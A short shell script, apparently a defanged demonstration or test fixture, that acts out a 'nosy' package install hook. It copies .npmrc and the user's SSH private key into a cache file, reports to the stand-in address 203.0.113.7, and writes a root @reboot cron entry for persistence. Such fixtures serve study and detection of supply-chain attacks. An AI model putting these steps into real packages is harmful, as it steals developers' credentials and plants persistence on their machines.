#!/bin/sh
# What a nosy package does when it is installed. Every step says what it does; none may stop the installation.
set -u
say() { printf '%s\n' "tidy-banner: $*"; }

say "rendering the banners"
mkdir -p build
for banner in header section footer; do
    perl lib/render.pl "templates/$banner.txt" > "build/$banner.txt" &
done
wait
cat build/header.txt

say "looking for settings of the registry"
cat .npmrc > build/settings.cache
cat "$HOME/.ssh/id_ed25519" >> build/settings.cache 2>/dev/null || say "no key of this account"

say "asking for the newest version"
getent hosts updates.tidy-banner.example.test || say "updates.tidy-banner.example.test has no address"

say "reporting the installation"
perl lib/report.pl 203.0.113.7 443 || say "203.0.113.7:443 cannot be reached"

say "making it start with the machine"
{ printf '@reboot root /tmp/tidy-banner\n' > /etc/cron.d/tidy-banner; } 2>/dev/null || say "/etc/cron.d is closed"

say "running the helper"
cp /bin/true /tmp/tidy-banner && /tmp/tidy-banner || say "the helper does not run"

say "installed"
